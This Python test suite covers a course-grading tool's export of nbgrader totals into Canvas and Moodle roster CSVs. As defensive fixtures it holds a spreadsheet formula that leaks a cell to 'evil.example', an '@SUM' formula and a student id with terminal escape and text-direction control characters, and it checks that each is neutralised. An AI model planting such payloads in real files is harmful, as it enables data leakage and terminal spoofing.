"""The totals for the LMS (grader/lms.py): a roster exported from Canvas or Moodle, given back
with the assignment's column filled from the main gradebook, manual scores included.

No notebook runs: the tiny lab's main gradebook is built as a batch builds it (nbgrader's
template, each submission's own gradebook merged into it), a TA's manual score is entered through
nbgrader's gradebook API, and the files are written through both command lines a TA may use.
The rosters are shaped like the LMS's own exports: Canvas's Points Possible row, Excel's BOM and
CRLF, names with commas, quotes, a formula and accents, students missing on either side.
"""
from __future__ import annotations

import csv
import subprocess
import sys
from pathlib import Path

import pytest
from nbgrader.api import Gradebook

from conftest import ROOT, graded_submission, run_env
from grader import batch, score
from grader import course as course_mod
from grader import lms as lms_mod
from grader.jobs import BatchFolders

TINY = Path(__file__).resolve().parent / "tiny_lab" / "course.toml"
EVIL = "s\x1b[2Jevil\u202e"  # a student id (a folder name) that would clear the TA's terminal
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """s001: every test, and a written answer a TA scored 0.5; s002: lost check_topk, answer
    waiting; s003 and EVIL: graded but in no roster. Totals: s001 3.5, s002 2."""
    course = course_mod.load(TINY)
    out = tmp_path_factory.mktemp("lms")
    folders = BatchFolders(out)
    batch.gradebooks_phase(course, folders, {})
    graded_submission(course, folders, "s001", {"check_normalize": 2.0, "check_topk": 1.0}, {"written_why": None})
    graded_submission(course, folders, "s002", {"check_normalize": 2.0, "check_topk": 0.0}, {"written_why": None})
    graded_submission(course, folders, "s003", {"check_normalize": 0.0, "check_topk": 1.0}, {"written_why": 0.0})
    graded_submission(course, folders, EVIL, {"check_normalize": 0.0, "check_topk": 0.0}, {"written_why": 0.0})
    with Gradebook(score.db_url(folders.main_db)) as gb:
        grade = gb.find_grade("written_why", course.notebook, course.assignment, "s001")
        grade.manual_score, grade.needs_manual_grade = 0.5, False
        gb.db.commit()
    return course, out


def _env():
    return run_env() | {course_mod.COURSE_VAR: str(TINY)}


def _run(*args, cwd=ROOT):
    return subprocess.run([*args], cwd=cwd, env=_env(), capture_output=True, text=True, timeout=300)


CANVAS_ROWS = [
    ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Tiny lab (4521)", "Current Score", "Final Score"],
    ["    Points Possible", "", "", "", "", "4.00", "(read only)", "(read only)"],
    ["Lovelace, Ada", "101", "u1", "s001", "Section A, Monday", "", "0", "0"],
    [FORMULA, "102", "u2", "s002", 'The "B" section', "1", "0", "0"],
    ["Zoë Ñúñez-Ørsted", "104", "u4", "s004", "Section A, Monday", "", "", ""],
    ["Test Student", "105", "", "", "", "", "", ""],
]


def _write(path: Path, rows, bom=True, delimiter=","):
    """As Excel writes 'CSV UTF-8': a BOM, CRLF line ends, quotes where needed."""
    with open(path, "w", newline="", encoding="utf-8-sig" if bom else "utf-8") as f:
        csv.writer(f, delimiter=delimiter).writerows(rows)
    return path


def _read(path: Path, delimiter=","):
    raw = path.read_bytes()
    return raw.startswith(b"\xef\xbb\xbf"), list(csv.reader(open(path, newline="", encoding="utf-8-sig"),
                                                             delimiter=delimiter))


def test_canvas_roster_comes_back_with_the_totals_and_its_own_shape(graded, tmp_path):
    course, out = graded
    roster = _write(tmp_path / "canvas export.csv", CANVAS_ROWS)
    proc = _run(sys.executable, "-m", "grader", "export", "--out", str(out), "--lms", "canvas", str(roster))
    assert proc.returncode == 0, proc.stdout + proc.stderr
    bom, rows = _read(out / "canvas.csv")
    assert bom and rows[0] == CANVAS_ROWS[0] and rows[1] == CANVAS_ROWS[1]
    by_login = {row[3]: row for row in rows[2:]}
    assert by_login["s001"][5] == "3.5"           # 2 + 1 automatic, 0.5 by a TA in formgrader
    assert by_login["s002"][5] == "2"             # its written answer still waits: 0 until scored
    assert by_login["s004"][5] == "" and by_login[""][5] == ""   # no submission: left as they were
    assert by_login["s001"][:5] == CANVAS_ROWS[2][:5] and by_login["s004"][0] == "Zoë Ñúñez-Ørsted"
    assert by_login["s002"][0] == "'" + FORMULA and by_login["s002"][4] == 'The "B" section'
    assert [row[6:] for row in rows[2:]] == [row[6:] for row in CANVAS_ROWS[2:]]
    said = proc.stdout
    assert "filled for 2 students" in said and "2 graded students are not in the roster" in said and "s003" in said
    assert "s\\x1b[2Jevil\\u202e" in said and "\x1b" not in said + proc.stderr and "\u202e" not in said
    assert "2 roster rows have no graded submission" in said and "s004" in said and "Test Student" in said
    grades = {r["student_id"]: r for r in csv.DictReader(open(out / "grades.csv"))}
    assert float(grades["s001"]["score"]) == 3.5, "the LMS file agrees with nbgrader's export"


def test_moodle_roster_by_id_number_and_a_column_added_by_name(graded, tmp_path):
    course, out = graded
    header = ["First name", "Last name", "ID number", "Institution", "Department", "Email address",
              "Assignment: Tiny lab (Real)", "Last downloaded from this course"]
    rows = [header,
            ["Ada", "Lovelace, Countess", "s001", "Uni", "CS", "ada@example.org", "-", "1712345678"],
            ["@SUM(1+1)", "O'Brien", "s002", "Uni", "CS", "bob@example.org", "-", "1712345678"],
            ["Chloé", "Dubois", "s009", "Uni", "CS", "chloe@example.org", "-", "1712345678"]]
    roster = _write(tmp_path / "moodle.csv", rows, bom=False, delimiter=";")
    proc = _run(sys.executable, "-m", "grader", "export", "--out", str(out), "--lms", "moodle", str(roster))
    assert proc.returncode == 0, proc.stdout + proc.stderr
    bom, got = _read(out / "moodle.csv", delimiter=";")
    assert not bom and got[0] == header
    assert [row[6] for row in got[1:]] == ["3.5", "2", "-"]
    assert got[2][0] == "'@SUM(1+1)" and got[1][1] == "Lovelace, Countess" and got[3][:6] == rows[3][:6]
    assert "s009" in proc.stdout and "s003" in proc.stdout

    lms_mod.export(course, out, "moodle", roster, "Lab 2", echo=lambda line: None)
    _, got = _read(out / "moodle.csv", delimiter=";")
    assert got[0] == header + ["Lab 2"] and [row[-1] for row in got[1:]] == ["3.5", "2", ""]


def _refused(course, out, lms, roster) -> str:
    with pytest.raises(SystemExit) as exc:
        lms_mod.export(course, out, lms, roster, echo=lambda line: None)
    return str(exc.value)


def test_a_roster_that_is_not_the_lms_format_or_lacks_the_key_is_refused_saying_why(graded, tmp_path):
    course, out = graded
    no_key = _write(tmp_path / "no_key.csv", [row[:3] + row[4:] for row in CANVAS_ROWS])
    said = _refused(course, out, "canvas", no_key)
    assert "lacks the column(s) 'SIS Login ID'" in said and "canvas_key" in said and "Export it again" in said
    nbgrader_style = _write(tmp_path / "grades.csv", [["assignment", "student_id", "score"], ["tiny_lab", "s001", "3"]])
    assert "does not look like a moodle gradebook export" in _refused(course, out, "moodle", nbgrader_style)
    latin1 = tmp_path / "latin1.csv"
    latin1.write_bytes(",".join(CANVAS_ROWS[0]).encode() + "\r\nZoë,1,,s001,A,,,\r\n".encode("latin-1"))
    assert "CSV UTF-8" in _refused(course, out, "canvas", latin1)
    two = _write(tmp_path / "two.csv", [CANVAS_ROWS[0][:6] + ["Lab 2 (4522)"], CANVAS_ROWS[2][:6] + ["1"]])
    said = _refused(course, out, "canvas", two)
    assert "--column" in said and "'Lab 2 (4522)'" in said and "'Tiny lab (4521)'" in said
    assert not list(out.glob("*.tmp")), "nothing half-written"
    proc = _run(sys.executable, "-m", "grader", "export", "--out", str(out), "--lms", "canvas")
    assert proc.returncode != 0 and "ROSTER" in proc.stderr


def test_nbgrader_export_takes_the_plugin_from_its_own_command_line(graded, tmp_path):
    course, out = graded
    roster = _write(tmp_path / "canvas.csv", CANVAS_ROWS)
    dest = tmp_path / "for canvas.csv"
    # from grader/ (its nbgrader_config.py), the repository on the path for the plugin's module
    env = _env() | {course_mod.WORK_VAR: str(out / "nbgrader"), "PYTHONPATH": str(ROOT)}
    proc = subprocess.run([course_mod.tool("nbgrader"), "export", "--exporter=grader.lms.CanvasExport",
                           f"--CanvasExport.roster={roster}", f"--to={dest}"], cwd=ROOT / "grader", env=env,
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    _, rows = _read(dest)
    assert {row[3]: row[5] for row in rows[2:]} == {"s001": "3.5", "s002": "2", "s004": "", "": ""}
    assert "s003" in proc.stderr
    proc = subprocess.run([course_mod.tool("nbgrader"), "export", "--exporter=grader.lms.MoodleExport",
                           f"--to={dest}"], cwd=ROOT / "grader", env=env, capture_output=True, text=True, timeout=300)
    assert proc.returncode != 0 and "MoodleExport.roster" in proc.stderr
